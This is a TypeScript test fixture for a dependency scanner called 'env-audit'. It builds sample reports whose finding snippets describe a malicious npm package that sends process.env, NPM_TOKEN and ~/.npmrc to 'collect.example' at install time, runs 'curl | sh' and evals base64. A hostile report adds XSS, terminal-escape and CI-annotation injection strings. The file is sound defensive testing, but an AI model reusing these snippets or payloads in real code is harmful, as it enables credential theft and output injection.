// Hand-made reports for the reporter tests: a realistic one that uses every rule id and every
// optional field, and a hostile one whose every string tries to escape its output format.
import assert from 'node:assert/strict';
import type { Finding, Level, PackageReport, Report } from '../../src/model.js';

function pkg(p: Partial<PackageReport> & Pick<PackageReport, 'name' | 'version' | 'level' | 'score'>): PackageReport {
  return {
    location: `node_modules/${p.name}`,
    dev: false,
    optional: false,
    peer: false,
    env: { reads: [], secretReads: [], dynamic: false, bulk: false, writes: [] },
    capabilities: [],
    reasons: [],
    findings: [],
    paths: [['my-app', p.name]],
    ...p,
  };
}

function finding(f: Partial<Finding> & Pick<Finding, 'rule' | 'file' | 'line' | 'detail'>): Finding {
  return { column: 0, snippet: '', ...f };
}

function byLevel(packages: PackageReport[]): Record<Level, number> {
  const counts: Record<Level, number> = { critical: 0, high: 0, medium: 0, low: 0, none: 0 };
  for (const p of packages) counts[p.level]++;
  return counts;
}

export function sampleReport(): Report {
  const packages: PackageReport[] = [
    pkg({
      name: 'evil-pkg',
      version: '1.0.0',
      score: 96,
      level: 'critical',
      integrity: 'sha512-abc==',
      env: { reads: ['AWS_SECRET_ACCESS_KEY', 'HOME', 'NPM_TOKEN'], secretReads: ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'], dynamic: false, bulk: true, writes: [] },
      capabilities: ['child_process', 'env', 'filesystem_credentials', 'install_script', 'network', 'obfuscation'],
      reasons: [
        'the whole environment flows into https.request at install time',
        'reads ~/.npmrc and can reach the network',
      ],
      findings: [
        finding({ rule: 'install-script', file: 'package.json', line: 6, column: 4, detail: 'postinstall: node setup.js', snippet: '"postinstall": "node setup.js"', installTime: true }),
        finding({ rule: 'env-bulk', file: 'setup.js', line: 3, column: 14, detail: 'JSON.stringify(process.env)', snippet: 'const data = JSON.stringify(process.env);', installTime: true }),
        finding({ rule: 'env-read', file: 'setup.js', line: 4, column: 10, detail: 'NPM_TOKEN', snippet: 'const t = process.env.NPM_TOKEN;', installTime: true }),
        finding({ rule: 'env-read', file: 'setup.js', line: 5, column: 10, detail: 'AWS_SECRET_ACCESS_KEY', snippet: 'const k = process.env.AWS_SECRET_ACCESS_KEY;', installTime: true }),
        finding({ rule: 'network', file: 'setup.js', line: 19, column: 2, detail: 'https', snippet: "https.request({ host: 'collect.example', method: 'POST' })", installTime: true }),
        finding({
          rule: 'exfiltration',
          file: 'setup.js',
          line: 19,
          column: 2,
          detail: 'process.env → https.request body',
          snippet: 'req.write(data)',
          installTime: true,
          message: 'the whole environment is sent in an HTTPS request body',
          flow: { source: { detail: 'process.env.NPM_TOKEN', line: 4, column: 10 }, sink: { detail: 'https.request body', line: 19, column: 2 } },
        }),
        finding({ rule: 'credential-file', file: 'setup.js', line: 8, column: 2, detail: '~/.npmrc', snippet: "fs.readFileSync(path.join(os.homedir(), '.npmrc'))", installTime: true }),
        finding({ rule: 'child-process', file: 'lib/run.js', line: 2, column: 0, detail: 'child_process.exec', snippet: "exec('curl -s x | sh')" }),
        finding({ rule: 'obfuscation', file: 'lib/payload.js', line: 1, column: 0, detail: 'base64 payload decoded then executed', snippet: "eval(Buffer.from('ZXZpbA==', 'base64').toString())" }),
        finding({ rule: 'env-read', file: 'lib/run.js', line: 9, column: 4, detail: 'HOME', snippet: 'process.env.HOME' }),
      ],
      scoreBreakdown: [
        { points: 60, reason: 'the whole environment flows into a network sink', rule: 'exfiltration', file: 'setup.js', line: 19 },
        { points: 25, reason: 'runs at install time', rule: 'install-script', file: 'package.json', line: 6 },
        { points: 20, reason: 'reads ~/.npmrc', rule: 'credential-file', file: 'setup.js', line: 8 },
      ],
      paths: [['my-app', 'useful-lib', 'evil-pkg'], ['my-app', 'other', 'evil-pkg']],
      files: 3,
      bytes: 5120,
      warnings: [],
    }),
    pkg({
      name: '@sentry/node',
      version: '7.100.0',
      location: 'node_modules/@sentry/node',
      score: 62,
      level: 'high',
      env: { reads: ['SENTRY_DSN', 'SENTRY_RELEASE'], secretReads: ['SENTRY_DSN'], dynamic: false, bulk: false, writes: [] },
      capabilities: ['env', 'network'],
      reasons: ['reads SENTRY_DSN and can reach the network (expected: vendor SDK reading its own prefix)'],
      findings: [
        finding({ rule: 'env-read', file: 'cjs/sdk.js', line: 40, column: 22, detail: 'SENTRY_DSN', snippet: 'const dsn = process.env.SENTRY_DSN;', expected: true, expectedReason: 'vendor SDK reading its own prefix' }),
        finding({ rule: 'env-read', file: 'cjs/sdk.js', line: 41, column: 22, detail: 'SENTRY_RELEASE', snippet: 'process.env.SENTRY_RELEASE' }),
        finding({ rule: 'network', file: 'cjs/transports/http.js', line: 12, column: 6, detail: 'https', snippet: "require('https')" }),
        finding({
          rule: 'exfiltration',
          file: 'cjs/transports/http.js',
          line: 30,
          column: 4,
          detail: 'SENTRY_DSN → https.request',
          snippet: 'https.request(dsnUrl)',
          expected: true,
          expectedReason: 'sends its own DSN to its own service',
          flow: { source: { detail: 'process.env.SENTRY_DSN', line: 40, column: 22 }, sink: { detail: 'https.request', line: 30, column: 4 } },
        }),
      ],
      paths: [['my-app', '@sentry/node']],
    }),
    pkg({
      name: 'config-loader',
      version: '2.1.0',
      dev: true,
      score: 40,
      level: 'medium',
      env: {
        reads: ['APP_NAME', 'APP_PORT', 'DATABASE_URL', 'LOG_LEVEL', 'NODE_ENV', 'REDIS_URL', 'STRIPE_SECRET_KEY'],
        secretReads: ['DATABASE_URL', 'STRIPE_SECRET_KEY'],
        dynamic: true,
        bulk: false,
        writes: ['NODE_ENV'],
      },
      capabilities: ['dynamic_require', 'env', 'eval'],
      reasons: ['reads env keys computed at run time and evaluates strings'],
      findings: [
        finding({ rule: 'env-read-dynamic', file: 'index.js', line: 10, column: 8, detail: 'process.env[key]', snippet: 'return process.env[key]' }),
        finding({ rule: 'env-write', file: 'index.js', line: 14, column: 2, detail: 'NODE_ENV', snippet: "process.env.NODE_ENV ??= 'production'" }),
        finding({ rule: 'dynamic-require', file: 'index.js', line: 20, column: 9, detail: 'require(name)', snippet: 'require(name)' }),
        finding({ rule: 'eval', file: 'lib/template.js', line: 3, column: 9, detail: 'new Function', snippet: "new Function('ctx', body)" }),
        finding({ rule: 'env-read', file: 'examples/db.js', line: 1, column: 12, detail: 'DATABASE_URL', snippet: 'process.env.DATABASE_URL', reachable: false }),
      ],
      paths: [['my-app', 'config-loader']],
    }),
    pkg({
      name: 'debug',
      version: '4.3.4',
      score: 8,
      level: 'low',
      env: { reads: ['DEBUG'], secretReads: [], dynamic: false, bulk: false, writes: [] },
      capabilities: ['env'],
      reasons: ['reads DEBUG'],
      findings: [finding({ rule: 'env-read', file: 'src/node.js', line: 120, column: 9, detail: 'DEBUG', snippet: 'return process.env.DEBUG;' })],
    }),
    pkg({ name: 'left-pad', version: '1.3.0', score: 0, level: 'none' }),
    pkg({
      name: 'broken',
      version: '0.0.1',
      score: 0,
      level: 'none',
      reasons: [],
      findings: [
        finding({ rule: 'parse-error', file: 'dist/weird.js', line: 1, column: 0, detail: 'Unexpected token (1:0)', snippet: '' }),
        finding({ rule: 'name-mismatch', file: 'package.json', line: 1, column: 0, detail: 'package.json says broken@0.0.1, but its folder is node_modules/brokn', snippet: '' }),
        // scan --trace: what the traced command saw the unparseable file do
        finding({
          rule: 'hidden-access', file: 'dist/weird.js', line: 1, column: 0, detail: 'BROKEN_MODE', snippet: '',
          runtime: { kind: 'env-read', name: 'BROKEN_MODE', count: 3 },
        }),
      ],
      trace: { seen: true, reads: [{ name: 'BROKEN_MODE', status: 'runtime-only', count: 3 }], writes: [], bulk: 'runtime-only', capabilities: [] },
      warnings: ['dist/weird.js could not be parsed'],
    }),
  ];
  return {
    schemaVersion: 1,
    tool: { name: 'env-audit', version: '0.1.0' },
    generatedAt: '2026-11-27T12:00:00.000Z',
    root: { name: 'my-app', version: '1.0.0', path: '.' },
    summary: { packages: 812, files: 23110, bytes: 187_000_000, parseErrors: 3, byLevel: { critical: 1, high: 1, medium: 1, low: 1, none: 808 }, durationMs: 4120 },
    packages,
    trace: { file: 'env-audit-trace.jsonl', processes: 3, invalidLines: 0, packagesSeen: 1, notInReport: [], projectReads: ['PORT'] },
  };
}

/** Every string a package controls, made as hostile as we can think of. */
export const EVIL = {
  name: '<img src=x onerror=alert(1)>|`x`\u001b[31m\u202eevil',
  version: '1.0.0\u001b]8;;http://x\u0007click\u001b]8;;\u0007',
  file: 'lib/\u001b[31mred|`tick`\n::error::x.js',
  snippet: '```\u001b[2J\u001b[31m`x` | <script>alert(1)</script>\r\n[link](http://evil.example)',
  detail: 'A|B `c` [x](javascript:alert(1)) <b>bold</b> \u202egnp.exe\r\n::warning::pwned, 100% %0A',
  reason: '\u001b[31mred\u001b[0m reason | with `code` and ![img](http://x/y.png) & www.evil.example user@evil.example @evil-user',
  env: 'EVIL_\u001b[31mTOKEN|`x`',
} as const;

export function hostileReport(): Report {
  const findings: Finding[] = [
    {
      rule: 'exfiltration',
      file: EVIL.file,
      line: 3,
      column: 7,
      detail: EVIL.detail,
      snippet: EVIL.snippet,
      message: EVIL.reason,
      flow: { source: { detail: EVIL.env, line: 1, column: 0 }, sink: { detail: EVIL.detail, line: 3, column: 7 } },
      expected: true,
      expectedReason: EVIL.reason,
      installTime: true,
    },
    { rule: 'env-read', file: EVIL.file, line: 1, column: 0, detail: EVIL.env, snippet: EVIL.snippet, reachable: false },
    { rule: 'network', file: 'ok.js', line: 2, column: 0, detail: EVIL.detail, snippet: EVIL.snippet },
  ];
  const evil: PackageReport = {
    name: EVIL.name,
    version: EVIL.version,
    location: `node_modules/${EVIL.name}`,
    dev: true,
    optional: true,
    peer: false,
    score: 99,
    level: 'critical',
    env: { reads: [EVIL.env, 'NPM_TOKEN'], secretReads: [EVIL.env], dynamic: true, bulk: true, writes: [EVIL.env] },
    capabilities: ['env', 'network'],
    reasons: [EVIL.reason, EVIL.detail],
    findings,
    paths: [['my-app', EVIL.name], [EVIL.name, '\u001b[31m', '|']],
    integrity: EVIL.version,
    scoreBreakdown: [{ points: 99, reason: EVIL.reason, rule: 'exfiltration', file: EVIL.file, line: 3 }],
    warnings: [EVIL.reason],
    files: 2,
    bytes: 10,
  };
  const ok: PackageReport = {
    name: 'fine',
    version: '1.0.0',
    location: 'node_modules/fine',
    dev: false,
    optional: false,
    peer: false,
    score: 10,
    level: 'low',
    env: { reads: ['DEBUG'], secretReads: [], dynamic: false, bulk: false, writes: [] },
    capabilities: ['env'],
    reasons: ['reads DEBUG'],
    findings: [{ rule: 'env-read', file: 'index.js', line: 1, column: 0, detail: 'DEBUG', snippet: 'process.env.DEBUG' }],
    paths: [['my-app', 'fine']],
  };
  const packages = [evil, ok];
  return {
    schemaVersion: 1,
    tool: { name: 'env-audit', version: '0.1.0' },
    generatedAt: '2026-11-27T12:00:00.000Z',
    root: { name: 'my-app\u001b[31m', version: '1.0.0', path: '.' },
    summary: { packages: 2, files: 3, bytes: 100, parseErrors: 0, byLevel: byLevel(packages), durationMs: 10 },
    packages,
    warnings: [EVIL.reason],
  };
}

/** Control characters that must never reach output raw (\n between lines is the one exception). */
const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

export function assertNoControlChars(output: string, what: string): void {
  const m = FORBIDDEN.exec(output);
  if (m) {
    const at = m.index;
    assert.fail(
      `${what}: raw U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 40), at + 40))}`,
    );
  }
}
